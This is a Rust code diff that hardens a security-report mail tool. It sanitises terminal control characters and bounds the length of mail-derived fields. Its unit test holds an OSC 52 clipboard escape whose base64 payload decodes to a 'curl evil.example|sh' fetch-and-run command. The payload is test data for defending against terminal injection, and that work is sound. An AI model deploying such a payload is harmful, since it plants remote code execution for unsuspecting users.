@@ -287,11 +287,15 @@ fn dispatch(cli: Cli) -> anyhow::Result<ExitCode> {
                 writeln!(out, "{}", serde_json::to_string_pretty(&rows)?)?;
             } else {
                 for m in rows {
-                    writeln!(
-                        out,
+                    let line = format!(
                         "{}  {:<10} {:<30} {}  ({})",
-                        m.received_at, m.kind, m.from, m.subject, m.reason
-                    )?;
+                        m.received_at,
+                        m.kind,
+                        crate::reply::bounded(&m.from),
+                        crate::reply::bounded(&m.subject),
+                        crate::reply::bounded(&m.reason)
+                    );
+                    writeln!(out, "{}", terminal_safe(&line))?;
                 }
             }
             Ok(ExitCode::SUCCESS)
@@ -409,7 +413,7 @@ fn list(store: &Store, cfg: &config::Config, json: bool) -> anyhow::Result<ExitC
         "ID", "STATE", "RECEIVED", "ACK", "MSGS", "REPORTER"
     )?;
     for r in &reports {
-        writeln!(out, "{}", summary_line(r))?;
+        writeln!(out, "{}", terminal_safe(&summary_line(r)))?;
     }
     Ok(ExitCode::SUCCESS)
 }
@@ -423,9 +427,26 @@ fn summary_line(r: &ReportSummary) -> String {
         r.received_at,
         if r.acknowledged_at.is_some() { "yes" } else { "no" },
         r.messages,
-        r.reporter,
+        crate::reply::bounded(&r.reporter),
         subject
     )
+}
+
+/// Mail-derived text as a terminal may show it: C0 controls (but tab and
+/// newline), ESC, DEL and C1 controls become visible escapes, so a report
+/// cannot move the cursor, rewrite the screen or set the clipboard (OSC 52).
+pub fn terminal_safe(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\n' | '\t' => out.push(c),
+            c if (c as u32) < 0x20 || c == '\u{7f}' || ('\u{80}'..='\u{9f}').contains(&c) => {
+                out.push_str(&format!("\\x{:02x}", c as u32));
+            }
+            c => out.push(c),
+        }
+    }
+    out
 }
 
 fn show(store: &Store, cfg: &config::Config, id: &str, json: bool) -> anyhow::Result<ExitCode> {
@@ -443,7 +464,7 @@ fn show(store: &Store, cfg: &config::Config, id: &str, json: bool) -> anyhow::Re
     if json {
         writeln!(out, "{}", serde_json::to_string_pretty(&d)?)?;
     } else {
-        write!(out, "{}", render_timeline(&d))?;
+        write!(out, "{}", terminal_safe(&render_timeline(&d)))?;
     }
     Ok(ExitCode::SUCCESS)
 }
@@ -456,11 +477,11 @@ pub fn render_timeline(d: &ReportDetail) -> String {
         "{}  [{}]\n  Subject:      {}\n  Reporter:     {}{}\n  Received:     {}\n  Acknowledged: {}\n  Messages:     {} in, {} out\n\nTimeline\n",
         s.id,
         s.state,
-        s.subject,
+        crate::reply::bounded(&s.subject),
         if s.reporter_name.is_empty() {
             String::new()
         } else {
-            format!("{} ", s.reporter_name)
+            format!("{} ", crate::reply::bounded(&s.reporter_name))
         },
         if s.reporter_name.is_empty() {
             s.reporter.clone()
@@ -478,9 +499,10 @@ pub fn render_timeline(d: &ReportDetail) -> String {
     let mut lines: Vec<(String, String)> = Vec::new();
     for m in &d.thread {
         let arrow = if m.direction == "in" { "<-" } else { "->" };
-        let who = if m.direction == "in" { &m.from } else { &m.to };
+        let who = crate::reply::bounded(if m.direction == "in" { &m.from } else { &m.to });
         let mut body = String::new();
         for l in m.body.lines().take(40) {
+            let l: String = l.chars().take(500).collect();
             body.push_str(&format!("\n                            | {l}"));
         }
         lines.push((
@@ -488,8 +510,8 @@ pub fn render_timeline(d: &ReportDetail) -> String {
             format!(
                 "{arrow} {:<9} {who}  \"{}\"  {}{}{body}",
                 m.kind,
-                m.subject,
-                m.message_id,
+                crate::reply::bounded(&m.subject),
+                crate::reply::bounded(&m.message_id),
                 protection(m)
             ),
         ));
@@ -502,7 +524,12 @@ pub fn render_timeline(d: &ReportDetail) -> String {
         };
         lines.push((
             e.at.clone(),
-            format!("   {}{change} by {}: {}", e.kind, e.actor, e.detail),
+            format!(
+                "   {}{change} by {}: {}",
+                e.kind,
+                e.actor,
+                crate::reply::bounded_to(&e.detail, 1000)
+            ),
         ));
     }
     lines.sort_by(|a, b| a.0.cmp(&b.0));
@@ -691,4 +718,24 @@ fn send_now(cfg: &config::Config) -> anyhow::Result<usize> {
         let transport = crate::outbox::transport(&cfg.smtp)?;
         crate::outbox::drain(&outbox, &transport, &cfg.smtp).await
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::terminal_safe;
+
+    #[test]
+    fn mail_derived_text_cannot_drive_the_terminal() {
+        let osc52 = "subject\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}";
+        let out = terminal_safe(osc52);
+        assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out}");
+        assert!(out.contains("\\x1b]52;c;"));
+        for c in ['\u{9b}', '\u{7f}', '\r', '\u{8}', '\u{0}'] {
+            assert!(!terminal_safe(&format!("a{c}b")).contains(c), "{c:?}");
+        }
+        assert_eq!(
+            terminal_safe("tab\tand\nnewline, ünïcødé"),
+            "tab\tand\nnewline, ünïcødé"
+        );
+    }
 }
